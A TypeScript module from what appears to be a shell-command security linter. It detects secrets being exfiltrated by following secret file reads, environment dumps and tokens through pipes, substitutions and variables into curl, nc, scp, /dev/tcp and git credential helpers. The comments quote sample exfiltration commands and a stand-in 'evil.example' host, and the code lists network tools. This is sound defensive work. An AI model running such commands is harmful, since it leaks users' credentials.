/**
 * Exfiltration: a secret's content reaching the network, in every mode (guard included). The data
 * is followed from a source — a command that reads a secret file (secrets-reads.ts), or one whose
 * output is a secret: an environment dump, a token printer, a printer of a secret variable
 * (exfiltration-sources.ts) — through pipes, `$(...)`, `<(...)`, here-strings and variables into a
 * network tool, and into the network tool's own arguments (`curl -d @F`, `-T F`,
 * `wget --post-file=F`, `dig -f F`, `scp F host:`, a secret variable in a request), its input
 * (`nc host < F`) and git's credential-helper and askpass commands. A token or secret variable
 * that only goes to its own service, or sits in a credential position (isUse), is used, not sent
 * away. Uploading other files is not a finding. A check over the whole parse: pipelines and
 * substitutions span commands.
 */

import type { Facts, Word } from "../../facts/types.js";
import type { CheckContext, FactsCheck, FindingDraft } from "../check.js";
import type { CommandView } from "../command.js";
import { resolvePath } from "../paths.js";
import { display, resolveText, secretReads, type SecretHit } from "./secrets-reads.js";
import { isSecretContainer, isSecretPathIn, secretMatcher } from "./secrets-paths.js";
import { environReads, isConnectionVariable, outputSource, printsItsWords, secretVariableIn, taintedPrint, variableInInput, variableSource, type Source } from "./exfiltration-sources.js";
import { ATTACHERS, isRemote, SENDERS, UPLOAD_COPIERS, uploadedSecret } from "./exfiltration-uploads.js";
import { advice, destination, isCredentialWord, isQueryCredential, isUrlOperand, readsHeaderFile, isUse, readsCredentialInput, REQUESTERS, type Destination } from "./exfiltration-requests.js";

/** Tools that send what they are given, or read, over the network. */
const NETWORK: ReadonlySet<string> = new Set([
  "curl", "wget", "wget2", "http", "https", "xh", "httpie", "aria2c", "lftp", "ftp", "tftp", "nc", "ncat", "netcat", "socat",
  "telnet", "ssh", "scp", "sftp", "rsync", "dig", "nslookup", "host", "drill", "kdig", "mail", "mailx", "sendmail", "mutt",
  "aws", "gsutil", "rclone", "gh", "az", "smbclient", "cadaver", "websocat", "grpcurl", "mosquitto_pub", "mc",
  ...UPLOAD_COPIERS, ...SENDERS, ...ATTACHERS,
]);

/** Tools whose file operands go to a remote only when another operand is remote (`host:path`, `s3://`). */
const COPIERS: ReadonlySet<string> = new Set(["scp", "rsync", "sftp", "aws", "gsutil", "rclone", ...UPLOAD_COPIERS]);

/** Tools whose own operands name remote things (ssh's command runs there): only their input counts. */
const INPUT_ONLY: ReadonlySet<string> = new Set(["ssh", "telnet", "mail", "mailx", "sendmail", "mutt", "smbclient", ...ATTACHERS]);

/** git config keys whose value is a command git runs and whose output it sends (or uses as a password). */
const GIT_SENDING_KEYS = /(?:^|\s|-c\s*)(?:credential(?:\.[^=\s]+)?\.helper|core\.askpass|core\.sshcommand|http\.[^=\s]*|remote\.[^=\s]+\.url)=?/i;

/**
 * GIT_SENDING_KEYS's first look: every key it matches has one of these in it. Most git lines have
 * none, and they are then spared the expression (and a start its compilation, ~0.3 ms).
 */
function mayNameSendingKey(line: string): boolean {
  const lower = line.toLowerCase();
  return lower.includes("credential") || lower.includes("core.") || lower.includes("http.") || lower.includes("remote.");
}

function isNetwork(view: CommandView): boolean {
  if (NETWORK.has(view.name)) return true;
  return view.name === "openssl" && view.args.some((a) => a === "s_client" || a === "s_server");
}

/** The start and end of a command with its redirects (`curl -d @- x <<< "$(cat F)"`). */
function extent(view: CommandView): [number, number] {
  let start = view.sc.start;
  let end = view.sc.end;
  for (const r of view.sc.redirects) {
    if (r.start < start) start = r.start;
    const e = r.body !== null && r.body.end > r.end ? r.body.end : r.end;
    if (e > end) end = e;
  }
  return [start, end];
}

/** A secret file's content: sent away wherever it goes. */
const FILE: Source = { what: "a secret", service: null, credential: false };

interface Taint {
  /** Pipelines (by ordinal): the first stage that is a source, and its source. */
  pipes: Map<number, { stage: number; source: Source; view: CommandView }>;
  /** `$(...)` / `<(...)` / backquotes whose commands are a source: range and source. */
  substitutions: Array<[number, number, Source, CommandView]>;
  /** Variables assigned from such a substitution, and its source. */
  variables: Map<string, Source>;
}

function taintOf(facts: Facts, views: readonly CommandView[], sources: Map<CommandView, Source>): Taint {
  const t: Taint = { pipes: new Map(), substitutions: [], variables: new Map() };
  // Constructs whose ancestors are already pushed: a read at every level of a deep line
  // (`$(cat key | curl …; $(cat key | …))`) walks each parent once, not once per read.
  let walked: Uint8Array | null = null;
  for (const v of views) {
    const source = sources.get(v);
    if (source === undefined) continue;
    const sc = v.sc;
    if (sc.pipeline >= 0) {
      const first = t.pipes.get(sc.pipeline);
      if (first === undefined || sc.stage < first.stage) t.pipes.set(sc.pipeline, { stage: sc.stage, source, view: v });
    }
    // The views are this parse's (viewsOf groups them), so its constructs are theirs.
    walked ??= new Uint8Array(facts.constructs.length);
    for (let c = sc.parent; c >= 0; c = (facts.constructs[c] as Facts["constructs"][number]).parent) {
      if (walked[c] === 1) break;
      walked[c] = 1;
      const k = facts.constructs[c] as Facts["constructs"][number];
      if (k.type === "command_substitution" || k.type === "process_substitution") t.substitutions.push([k.start, k.end, source, v]);
    }
  }
  if (t.substitutions.length > 0) {
    for (const sc of facts.commands) {
      for (const a of sc.assignments) {
        const hit = a.value === null ? undefined : t.substitutions.find(([s, e]) => s >= a.start && e <= a.end);
        if (hit !== undefined) t.variables.set(a.name, hit[2]);
      }
      // `export K=$(cat F)`, `local K=...`, `declare K=...`: assignments as arguments.
      const name = sc.argv[0]?.value;
      if (name === "export" || name === "local" || name === "declare" || name === "readonly" || name === "typeset") {
        for (const w of sc.argv.slice(1)) {
          const eq = w.value.indexOf("=");
          const hit = eq > 0 ? t.substitutions.find(([s, e]) => s >= w.start && e <= w.end) : undefined;
          if (hit !== undefined) t.variables.set(w.value.slice(0, eq), hit[2]);
        }
      }
    }
  }
  return t;
}

/** How the network tool `view` gets a secret (and which), or null. */
interface Leak {
  how: string;
  source: Source;
}

function leak(view: CommandView, ctx: CheckContext, taint: Taint, own: readonly SecretHit[]): Leak | null {
  const found = leakOf(view, ctx, taint, own);
  if (found === null || found.source === FILE || found.source.service === null) return found;
  // A credential of a known service: say where it went.
  const hosts = destination(view).hosts;
  return hosts.length === 0 ? found : { ...found, how: `${found.how} to ${hosts.join(", ")}` };
}

function leakOf(view: CommandView, ctx: CheckContext, taint: Taint, own: readonly SecretHit[]): Leak | null {
  const m = secretMatcher(ctx.options);
  const sc = view.sc;
  let to: Destination | null = null;
  // Whether a secret is sent away, not used with its own service (files always are).
  // k: the word it sits in; -1 for the input.
  // from: the command that printed it, when it reaches the request through a pipe or `<(...)`.
  const sent = (source: Source, k: number, from?: CommandView): boolean => {
    if (source === FILE) return true;
    const credential = k > 0 ? isCredentialWord(view, k) || isQueryCredential(view, k, source.service) || (from !== undefined && readsHeaderFile(view, k, from))
      : k === -1 && (readsCredentialInput(view) || (from !== undefined && readsHeaderFile(view, k, from)));
    return !isUse(source, to ??= destination(view), credential);
  };
  const piped = sc.pipeline >= 0 ? taint.pipes.get(sc.pipeline) : undefined;
  if (piped !== undefined && sc.stage > piped.stage && sent(piped.source, -1, piped.view)) return { how: `${piped.source.what} piped into it`, source: piped.source };
  const [start, end] = extent(view);
  for (const [s, e, source, from] of taint.substitutions) {
    if (s < start || e > end || (s <= sc.start && e >= sc.end)) continue;
    if (sent(source, view.words.findIndex((w) => w.start <= s && e <= w.end), from)) {
      return { how: source === FILE ? "a secret read by a command substitution in its arguments" : `${source.what} through a command substitution in its arguments`, source };
    }
  }
  if (taint.variables.size > 0) {
    for (let k = 0; k < view.words.length; k++) {
      const w = view.words[k] as Word;
      for (const [name, source] of taint.variables) {
        if ((w.value.includes("$" + name) || w.value.includes("${" + name)) && sent(source, k)) return { how: `$${name}, which holds ${source.what}`, source };
      }
    }
  }
  // A secret variable in a request's own words (`curl -d "k=$AWS_SECRET_ACCESS_KEY"`), or in any network tool's input.
  if (REQUESTERS.has(view.name)) {
    for (let k = 1; k < view.words.length; k++) {
      const name = secretVariableIn(view.words[k] as Word);
      if (name === null || taint.variables.has(name) || connectsTo(view, k, name)) continue;
      const source = variableSource(name);
      if (sent(source, k)) return { how: `${source.what} in its arguments`, source };
    }
  }
  const input = view.redirects.length > 0 ? variableInInput(view) : null;
  if (input !== null) {
    const source = variableSource(input);
    if (sent(source, -1)) return { how: `${source.what} in its input`, source };
  }
  for (const r of view.redirects) {
    const input = r.op === "<<<" ? r.target : r.op === "<<" || r.op === "<<-" ? r.body : null;
    if (input !== null) {
      for (const tok of input.value.match(/[~$A-Za-z0-9_./{}@+-]+/g) ?? []) {
        const p = resolveText(tok.replace(/^@/, ""), ctx.paths);
        if (p !== null && (tok.includes("/") || tok.startsWith(".")) && isSecretPathIn(m, p)) return fileLeak(`${display(p, ctx.paths)} named in its input`);
      }
    }
  }
  if (own.length === 0) return null;
  const first = own[0] as SecretHit;
  const inRedirect = view.redirects.some((r) => r.start === first.start);
  if (inRedirect) return fileLeak(`${display(first.path, ctx.paths)} as its input`, first.path);
  // Attachments, request bodies, uploads by subcommand (exfiltration-uploads.ts).
  const uploaded = uploadedSecret(view, own);
  if (uploaded !== undefined) return uploaded === null ? null : fileLeak(`${display(uploaded.path, ctx.paths)}, uploaded`, uploaded.path);
  if (INPUT_ONLY.has(view.name)) return null;
  if (COPIERS.has(view.name)) {
    // A secret operand goes somewhere remote only when a later operand is remote.
    const lastRemote = findLastIndex(view.words, (w, k) => k > 0 && !w.value.startsWith("-") && isRemote(w.value));
    const copied = own.find((h) => lastRemote >= 0 && h.end <= (view.words[lastRemote] as Word).start);
    return copied === undefined ? null : fileLeak(`${display(copied.path, ctx.paths)}, copied to ${(view.words[lastRemote] as Word).value}`, copied.path);
  }
  return fileLeak(display(first.path, ctx.paths), first.path);
}

/** `curl "$ELASTICSEARCH_URL/_cat/health"`: a connection URL that is the request's own URL goes to its own host. */
function connectsTo(view: CommandView, k: number, name: string): boolean {
  if (!isConnectionVariable(name)) return false;
  const v = (view.words[k] as Word).value;
  const ref = v.startsWith("$" + name) ? name.length + 1 : v.startsWith("${" + name + "}") ? name.length + 3 : -1;
  // Then the URL's path or nothing: `$DATABASE_URL.evil.example` is a host name of its own.
  return ref > 0 && (ref === v.length || v[ref] === "/" || v[ref] === "?") && isUrlOperand(view, k);
}

/** A process's environment file (`/proc/self/environ`): a dump of the environment. */
const ENVIRON_FILE: Source = { what: "the environment", service: null, credential: false };

function fileLeak(how: string, path = ""): Leak {
  return { how, source: path.startsWith("/proc/") ? ENVIRON_FILE : FILE };
}

function findLastIndex<T>(xs: readonly T[], f: (x: T, k: number) => boolean): number {
  for (let k = xs.length - 1; k >= 0; k--) if (f(xs[k] as T, k)) return k;
  return -1;
}

/** `git -c credential.helper='!cat F' ...`, `git config core.askPass 'cat F'`: git runs it and sends the output. */
function gitLeak(view: CommandView, ctx: CheckContext): string | null {
  if (view.name !== "git") return null;
  const line = view.args.join(" ");
  if (!mayNameSendingKey(line) || !GIT_SENDING_KEYS.test(line)) return null;
  const m = secretMatcher(ctx.options);
  for (const tok of line.match(/[~$A-Za-z0-9_./{}@+-]+/g) ?? []) {
    if (!tok.includes("/") && !tok.startsWith(".")) continue;
    const p = resolveText(tok, ctx.paths);
    if (p !== null && (isSecretPathIn(m, p) || isSecretContainer(m, p))) return display(p, ctx.paths);
  }
  return null;
}

/** `cat F > /dev/tcp/host/port`: bash's own network redirect. */
function devTcp(view: CommandView, ctx: CheckContext): boolean {
  return view.redirects.some((r) => r.op !== "<" && r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(resolvePath(r.target, ctx.paths).path ?? r.target.value));
}

/** The views of each parse, grouped once per analysis: the check runs once per parse (nested strings too), and filtering all views each time was quadratic. */
const byParse = new WeakMap<readonly CommandView[], Map<Facts, CommandView[]>>();

function viewsOf(facts: Facts, all: readonly CommandView[]): readonly CommandView[] {
  let groups = byParse.get(all);
  if (groups === undefined) {
    groups = new Map();
    for (const v of all) {
      if (v.wrapperOnly) continue;
      const list = groups.get(v.facts);
      if (list === undefined) groups.set(v.facts, [v]);
      else list.push(v);
    }
    byParse.set(all, groups);
  }
  return groups.get(facts) ?? NO_VIEWS;
}

const NO_VIEWS: CommandView[] = [];

/** Whether a view (of `facts`, when given) is a network tool, git, or writes to /dev/tcp: without one nothing is sent. */
function sendsAny(views: readonly CommandView[], facts: Facts | null, ctx: CheckContext): boolean {
  for (let k = 0; k < views.length; k++) {
    const v = views[k] as CommandView;
    if (facts !== null && (v.facts !== facts || v.wrapperOnly)) continue;
    if (isNetwork(v) || v.name === "git" || (v.redirects.length > 0 && devTcp(v, ctx))) return true;
  }
  return false;
}

function check(facts: Facts, ctx: CheckContext, all: readonly CommandView[], contextOf?: (view: CommandView) => CheckContext): FindingDraft[] {
  const grouped = all.length <= 8 ? null : viewsOf(facts, all);
  // Most lines send nothing anywhere: without a network tool, git or /dev/tcp there is nothing to follow.
  if (!sendsAny(grouped ?? all, grouped !== null ? null : facts, ctx)) return NO_FINDINGS;
  const views = grouped ?? all.filter((v) => v.facts === facts && !v.wrapperOnly);
  const reads = new Map<CommandView, SecretHit[]>();
  const sources = new Map<CommandView, Source>();
  for (const v of views) {
    // `cd ~/.aws && curl -T credentials URL`: relative names resolve after the line's cds.
    const files = secretReads(v, contextOf?.(v) ?? ctx);
    const environ = environReads(v);
    const hits = environ.length === 0 ? files : files.length === 0 ? environ : [...files, ...environ];
    reads.set(v, hits);
    const source = files.length > 0 ? FILE : environ.length > 0 ? { ...ENVIRON_FILE, what: `the environment (${environ[0]?.path ?? ""})` } : outputSource(v);
    if (source !== null) sources.set(v, source);
  }
  let out: FindingDraft[] | null = null;
  const report = (view: CommandView, how: string, source: Source): void => {
    out ??= [];
    out.push({ id: "secret/exfiltration", message: `${view.name} sends ${how} over the network; ${advice(source)}`, start: view.start, end: view.end });
  };
  let taint: Taint = sources.size > 0 ? taintOf(facts, views, sources) : { pipes: new Map(), substitutions: [], variables: new Map() };
  copiedSecrets(facts, taint);
  // A printer of a variable that holds a secret is a source too (`T=$(cat F); echo "$T" | nc h 80`),
  // or of a substitution that is one (`echo "k: $(gh auth token)" | curl -H @- URL`); its own
  // substitution may fill another variable: followed a few rounds deep.
  for (let round = 0; round < 3 && (taint.variables.size > 0 || taint.substitutions.length > 0); round++) {
    let added = false;
    for (const v of views) {
      if (sources.has(v)) continue;
      const printed = taintedPrint(v, taint.variables) ?? substitutedPrint(v, taint);
      if (printed !== null) {
        sources.set(v, printed);
        added = true;
      }
    }
    if (!added) break;
    taint = taintOf(facts, views, sources);
    copiedSecrets(facts, taint);
  }
  for (const v of views) {
    const git = gitLeak(v, ctx);
    if (git !== null) {
      report(v, `the output of a command reading ${git} (a credential helper or askpass)`, FILE);
      continue;
    }
    const own = reads.get(v) ?? NONE;
    const found = isNetwork(v) ? leak(v, contextOf?.(v) ?? ctx, taint, own) : null;
    if (found !== null) report(v, found.how, found.source);
    else if (v.redirects.length > 0 && devTcp(v, ctx)) {
      const self = sources.get(v);
      const piped = v.sc.pipeline >= 0 ? taint.pipes.get(v.sc.pipeline) : undefined;
      if (own.length > 0) report(v, `${display((own[0] as SecretHit).path, ctx.paths)} through /dev/tcp`, self ?? FILE);
      else if (self !== undefined) report(v, `${self.what} through /dev/tcp`, self);
      else if (piped !== undefined && v.sc.stage > piped.stage) report(v, `${piped.source === FILE ? "a secret" : piped.source.what} through /dev/tcp`, piped.source);
    }
  }
  return out ?? NO_FINDINGS;
}

/** A printer with a source's substitution in its words: what it prints holds the secret. */
function substitutedPrint(view: CommandView, taint: Taint): Source | null {
  if (taint.substitutions.length === 0 || !printsItsWords(view)) return null;
  for (let k = 1; k < view.words.length; k++) {
    const w = view.words[k] as Word;
    const hit = taint.substitutions.find(([s, e]) => s >= w.start && e <= w.end);
    if (hit !== undefined) return hit[2];
  }
  return null;
}

/** `t=$GITHUB_TOKEN`, `export T="${NPM_TOKEN}"`: a variable that holds a copy of a secret variable holds the secret. */
function copiedSecrets(facts: Facts, taint: Taint): void {
  for (const sc of facts.commands) {
    for (const a of sc.assignments) {
      const name = a.value === null ? null : secretVariableIn(a.value);
      if (name !== null && !taint.variables.has(a.name)) taint.variables.set(a.name, variableSource(name));
    }
    const first = sc.argv[0]?.value;
    if (first !== "export" && first !== "local" && first !== "declare" && first !== "readonly" && first !== "typeset") continue;
    for (const w of sc.argv.slice(1)) {
      const eq = w.value.indexOf("=");
      // The word whole: its run-time parts are all in the value, after `NAME=`.
      const name = eq > 0 ? secretVariableIn(w) : null;
      if (name !== null && !taint.variables.has(w.value.slice(0, eq))) taint.variables.set(w.value.slice(0, eq), variableSource(name));
    }
  }
}

const NONE: SecretHit[] = [];
const NO_FINDINGS: FindingDraft[] = [];

export const exfiltration: FactsCheck = {
  name: "secret",
  findings: {
    "secret/exfiltration": { description: "A secret's content sent over the network (curl -d @F, nc < F, a pipe or $(...) into a network tool, scp F host:, dig -f F, a git credential helper)." },
  },
  check,
};
